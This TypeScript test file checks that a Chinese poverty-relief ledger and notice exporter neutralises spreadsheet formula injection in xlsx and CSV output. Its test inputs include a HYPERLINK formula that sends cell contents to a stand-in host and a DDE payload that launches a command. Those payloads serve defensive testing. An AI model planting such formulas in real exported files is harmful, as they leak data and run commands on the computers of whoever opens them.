// Formula-safe exports: text that a spreadsheet would take for a formula (=, +, -, @, tab, CR)
// is written so that none evaluates it — read back with openpyxl (someone else's reader) to see
// a text cell with the Text format, not a formula — and CSV fields get a leading apostrophe.
// Numbers, negative ones included, stay numbers.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadRulebook } from '../../rulebooks/loader.js';
import { ledgerFixture } from '../../../test/fixtures/ledger.js';
import { writeLedgers } from '../ledger/ledgers.js';
import { readWithOpenpyxl, type ReadSheet } from '../../../test/kits/readBack.js';
import { openSheet, openWorkbook } from '../ledger/style.js';
import { noticeWorkbook } from '../notice/noticeWorkbook.js';
import { csvField, csvSafeText, looksLikeFormula } from './safeText.js';

const dir = mkdtempSync(join(tmpdir(), 'tuopin-safe-text-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点此")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

/** Every cell of the read-back sheets whose value is `text`, with its type and number format. */
function cellsHolding(sheets: readonly ReadSheet[], text: string): { type: string; format: string | null }[] {
  const out: { type: string; format: string | null }[] = [];
  for (const s of sheets) {
    s.values.forEach((row, r) =>
      row.forEach((v, c) => {
        if (v === text) out.push({ type: s.data_types[r]![c]!, format: s.number_formats[r]![c] ?? null });
      }),
    );
  }
  return out;
}

// XML turns a raw carriage return into a line feed; what matters is that it stays text.
const asRead = (t: string) => t.replace(/\r/g, '\n');

describe('looksLikeFormula and CSV', () => {
  it('recognises each leading character OWASP lists, and only those', () => {
    for (const t of HOSTILE) expect(looksLikeFormula(t), JSON.stringify(t)).toBe(true);
    for (const t of ['张三', '1+1', ' =1', '（=1）', '', '五保户']) expect(looksLikeFormula(t), t).toBe(false);
  });

  it('prefixes formula-like CSV fields with an apostrophe and quotes as RFC 4180 says; numbers stay numbers', () => {
    expect(csvSafeText('=1+1')).toBe("'=1+1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('张三')).toBe('张三');
    expect(csvField(-1234.5)).toBe('-1234.5');
    expect(csvField(null)).toBe('');
  });
});

describe('xlsx writers', () => {
  it('the ledger sheet writer (ledgers, income forms, task ledger): formula-like text is a text cell in the Text format', async () => {
    const file = join(dir, 'sheet.xlsx');
    const wb = openWorkbook(file);
    const sheet = openSheet(
      wb,
      {
        name: '测试',
        title: '=标题',
        columns: [
          { header: '姓名', kind: 'text' },
          { header: '金额', kind: 'money' },
        ],
      },
      [],
    );
    HOSTILE.forEach((t, i) => sheet.addRow([t, -1234.5 - i]));
    sheet.addRow(['张三', -5]);
    sheet.commit();
    await wb.commit();
    const back = readWithOpenpyxl(file);
    for (const t of [...HOSTILE, '=标题']) {
      const cells = cellsHolding(back.sheets, asRead(t));
      expect(cells.length, JSON.stringify(t)).toBeGreaterThan(0);
      for (const c of cells) expect(c, JSON.stringify(t)).toEqual({ type: 's', format: '@' });
    }
    // Ordinary text keeps the column's format; amounts, negative ones too, are numbers.
    expect(cellsHolding(back.sheets, '张三')).toEqual([{ type: 's', format: null }]);
    const s = back.sheets[0]!;
    const amounts = s.values.slice(2).map((r) => r[1]);
    expect(amounts).toEqual([...HOSTILE.map((_, i) => -1234.5 - i), -5]);
    expect(s.data_types.slice(2).map((r) => r[1])).toEqual(Array(HOSTILE.length + 1).fill('n'));
  });

  it('the ledger workbook: a hostile cause or attribute label is text, not a formula; numbers stay numbers', async () => {
    const input = ledgerFixture(loadRulebook('seed-county-2018'));
    const [h0, h1] = input.households as unknown as { mainCauseLabel: string | null; attributeLabel: string; headName: string | null }[];
    h0!.mainCauseLabel = HOSTILE[0]!;
    h1!.attributeLabel = HOSTILE[3]!;
    h1!.headName = HOSTILE[2]!;
    const file = join(dir, 'ledgers.xlsx');
    await writeLedgers(file, input);
    const back = readWithOpenpyxl(file);
    for (const t of [HOSTILE[0]!, HOSTILE[3]!, HOSTILE[2]!]) {
      const cells = cellsHolding(back.sheets, t);
      expect(cells.length, t).toBeGreaterThan(0);
      for (const c of cells) expect(c, t).toEqual({ type: 's', format: '@' });
    }
    for (const s of back.sheets) {
      s.data_types.forEach((row) => expect(row.includes('f'), s.name).toBe(false));
      s.values.forEach((row, r) =>
        row.forEach((v, c) => {
          if (typeof v === 'number') expect(s.data_types[r]![c], `${s.name} ${r} ${c}`).toBe('n');
        }),
      );
    }
  });

  it('the public-notice list: a hostile head name or group is text in the Text format', async () => {
    const file = join(dir, 'notice.xlsx');
    writeFileSync(
      file,
      await noticeWorkbook({
        title: '贫困户拟退出公示名单',
        countyName: '示范县',
        townshipName: '东山镇',
        villageName: '东山村',
        start: null,
        end: null,
        days: 7,
        objectionPhone: null,
        signature: '东山村村民委员会',
        footer: ['=说明'],
        rows: [
          { no: 1, headName: HOSTILE[0]!, group: HOSTILE[3]!, size: 4, classLabel: 'A', attributeLabel: '一般贫困户' },
          { no: 2, headName: '李四', group: '一组', size: -1, classLabel: 'A', attributeLabel: '低保户' },
        ],
      }),
    );
    const back = readWithOpenpyxl(file);
    for (const t of [HOSTILE[0]!, HOSTILE[3]!, '=说明']) expect(cellsHolding(back.sheets, t), t).toEqual([{ type: 's', format: '@' }]);
    expect(cellsHolding(back.sheets, '李四')).toEqual([{ type: 's', format: null }]);
    const row5 = back.sheets[0]!.values[4]!;
    expect(row5[3]).toBe(-1);
    expect(back.sheets[0]!.data_types[4]![3]).toBe('n');
  });
});
